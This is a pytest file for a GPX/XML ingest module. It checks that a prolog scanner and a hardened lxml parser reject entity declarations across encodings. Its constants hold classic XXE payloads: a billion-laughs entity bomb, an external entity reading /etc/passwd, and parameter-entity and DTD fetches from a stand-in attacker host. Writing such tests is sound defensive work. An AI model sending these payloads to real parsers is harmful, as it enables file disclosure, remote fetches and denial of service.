"""Pre-scan and parser settings that keep hostile XML away from every parser.

Attack payloads are the classic ones from the OWASP XML External Entity Prevention Cheat Sheet
and the libxml2/lxml documentation ("billion laughs", external SYSTEM entity, parameter entity).
"""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest
from lxml import etree

from fleetfuel.errors import InputDataError
from fleetfuel.ingest import xmlsafe
from fleetfuel.ingest.xmlsafe import PROLOG_LIMIT_BYTES, safe_xml_parser, scan_prolog

DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><trkseg/></trk></gpx>\n'

# "billion laughs": 10 levels x 10 references = 10**9 copies of "lol" if expanded (OWASP).
BILLION_LAUGHS = (
    "<!DOCTYPE gpx [\n"
    ' <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
    '<gpx version="1.1"><trk><name>&lol9;</name></trk></gpx>\n'
)
EXTERNAL_ENTITY = (
    '<!DOCTYPE gpx [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>\n'
    '<gpx version="1.1"><trk><name>&secret;</name></trk></gpx>\n'
)
PARAMETER_ENTITY = (
    '<!DOCTYPE gpx [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>\n'
    '<gpx version="1.1"/>\n'
)
PUBLIC_DTD = '<!DOCTYPE gpx PUBLIC "-//X//DTD X//EN" "http://attacker.invalid/x.dtd">\n' + BODY


def _write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8", bom: bytes = b"") -> Path:
    path = tmp_path / name
    path.write_bytes(bom + text.encode(encoding))
    return path


def _assert_one_line_naming(exc: pytest.ExceptionInfo, path: Path, *words: str) -> None:
    message = str(exc.value)
    assert "\n" not in message
    assert str(path) in message
    for word in words:
        assert word in message


@pytest.mark.parametrize(
    ("name", "payload", "word"),
    [
        ("laughs.gpx", BILLION_LAUGHS, "<!DOCTYPE"),
        ("external.gpx", EXTERNAL_ENTITY, "<!DOCTYPE"),
        ("parameter.gpx", PARAMETER_ENTITY, "<!DOCTYPE"),
        ("public.gpx", PUBLIC_DTD, "<!DOCTYPE"),
        ("lower.gpx", "<!doctype gpx>\n" + BODY, "<!doctype"),
        ("bare_entity.gpx", '<!ENTITY x "y">\n' + BODY, "<!ENTITY"),
    ],
)
def test_declarations_refused(tmp_path: Path, name: str, payload: str, word: str) -> None:
    path = _write(tmp_path, name, DECLARATION + payload)
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, word, "refused")
    # Nothing was expanded into the message (the file itself is only a few hundred bytes).
    assert "lollol" not in str(exc.value) and "root:" not in str(exc.value)


def test_doctype_after_comment_and_pi_refused(tmp_path: Path) -> None:
    text = DECLARATION + "<!-- exported -->\n<?app hint?>\n  " + EXTERNAL_ENTITY
    path = _write(tmp_path, "commented.gpx", text)
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, "<!DOCTYPE")


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [
        ("utf-8", codecs.BOM_UTF8),
        ("utf-16-le", codecs.BOM_UTF16_LE),
        ("utf-16-be", codecs.BOM_UTF16_BE),
        ("utf-16-le", b""),  # no mark: recognised by the '<?' signature (XML 1.0 Appendix F.1)
        ("utf-32-le", codecs.BOM_UTF32_LE),
    ],
)
def test_doctype_refused_in_every_encoding(tmp_path: Path, encoding: str, bom: bytes) -> None:
    declared = DECLARATION.replace("UTF-8", encoding.upper()[:6])
    path = _write(tmp_path, f"laughs_{encoding}.gpx", declared + BILLION_LAUGHS, encoding, bom)
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, "<!DOCTYPE")


@pytest.mark.parametrize(
    ("encoding", "bom", "has_bom"),
    [("utf-8", b"", False), ("utf-8", codecs.BOM_UTF8, True), ("utf-16-le", codecs.BOM_UTF16_LE, True)],
)
def test_clean_file_passes(tmp_path: Path, encoding: str, bom: bytes, has_bom: bool) -> None:
    path = _write(tmp_path, "clean.gpx", DECLARATION + "<!-- a comment -->\n" + BODY, encoding, bom)
    prolog = scan_prolog(path)
    assert prolog.root_name == "gpx"
    assert prolog.root_local_name == "gpx"
    assert prolog.has_bom is has_bom
    # Without a mark, UTF-8 is scanned as an ASCII-compatible byte stream (XML 1.0 Appendix F.1).
    assert prolog.encoding == ("latin-1" if not bom else encoding)


def test_prefixed_root_name(tmp_path: Path) -> None:
    path = _write(tmp_path, "prefixed.gpx", '<g:gpx xmlns:g="http://www.topografix.com/GPX/1/0"/>')
    assert scan_prolog(path).root_local_name == "gpx"


def test_doctype_text_inside_body_is_not_a_declaration(tmp_path: Path) -> None:
    # After the root element starts, "<!DOCTYPE" is ordinary (escaped) text; nothing to refuse.
    path = _write(tmp_path, "text.gpx", DECLARATION + "<gpx><desc>&lt;!DOCTYPE x&gt;</desc></gpx>")
    assert scan_prolog(path).root_name == "gpx"


def test_long_prolog_refused(tmp_path: Path) -> None:
    # A comment longer than the scan window could hide a DOCTYPE behind it: refuse, do not read on.
    text = DECLARATION + "<!--" + "x" * (PROLOG_LIMIT_BYTES + 10) + "-->" + EXTERNAL_ENTITY
    path = _write(tmp_path, "long.gpx", text)
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, "first", str(PROLOG_LIMIT_BYTES))


@pytest.mark.parametrize(
    ("name", "content", "word"),
    [
        ("empty.gpx", b"", "empty"),
        ("blank.gpx", b" \n\t\n", "empty"),
        ("text.gpx", b"lat,lon,time\n1,2,3\n", "not XML"),
        ("unclosed.gpx", b'<?xml version="1.0"', "not closed"),
        ("ebcdic.gpx", b"\x4c\x6f\xa7\x94\x93", "EBCDIC"),
    ],
)
def test_not_xml_refused(tmp_path: Path, name: str, content: bytes, word: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, word)


def test_missing_file_is_input_error(tmp_path: Path) -> None:
    path = tmp_path / "absent.gpx"
    with pytest.raises(InputDataError) as exc:
        scan_prolog(path)
    _assert_one_line_naming(exc, path, "cannot open")


def test_scan_reads_bounded_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _write(tmp_path, "big.gpx", DECLARATION + BODY + " " * (4 * PROLOG_LIMIT_BYTES))
    sizes: list[int] = []
    real_open = open

    def spy_open(*args, **kwargs):  # type: ignore[no-untyped-def]
        handle = real_open(*args, **kwargs)
        real_read = handle.read

        def read(size: int = -1) -> bytes:
            sizes.append(size)
            return real_read(size)

        handle.read = read
        return handle

    monkeypatch.setattr(xmlsafe, "open", spy_open, raising=False)
    scan_prolog(path)
    assert sizes == [PROLOG_LIMIT_BYTES + 1]


# Second line of defence: even if a hostile document reached the parser, nothing is expanded
# or fetched (lxml documentation: resolve_entities=False keeps entity references as nodes).
def test_safe_parser_does_not_expand_billion_laughs() -> None:
    # libxml2 either refuses the amplification outright or keeps the reference unexpanded.
    try:
        root = etree.fromstring((DECLARATION + BILLION_LAUGHS).encode(), safe_xml_parser())
    except etree.XMLSyntaxError as exc:
        assert "amplification" in str(exc) or "entity" in str(exc).lower()
        return
    serialised = etree.tostring(root)
    assert len(serialised) < 1000  # 10**9 "lol" would be 3 GB
    assert b"lollol" not in serialised


def test_safe_parser_does_not_read_external_entity() -> None:
    root = etree.fromstring((DECLARATION + EXTERNAL_ENTITY).encode(), safe_xml_parser())
    assert b"root:" not in etree.tostring(root)  # /etc/passwd starts with the root account line
